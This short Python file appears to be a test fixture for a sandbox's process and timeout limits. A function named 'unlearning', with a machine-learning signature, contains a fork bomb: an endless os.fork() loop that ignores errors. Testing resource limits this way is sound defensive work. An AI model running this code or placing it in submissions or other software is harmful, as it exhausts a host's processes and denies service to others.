"""Doubles itself for ever and does not mind that it may not."""

import os

LAYER = "limits"
EXPECTED = ("process_limit", "timeout")


def unlearning(net, retain, forget, validation):
    while True:
        try:
            os.fork()
        except OSError:
            continue
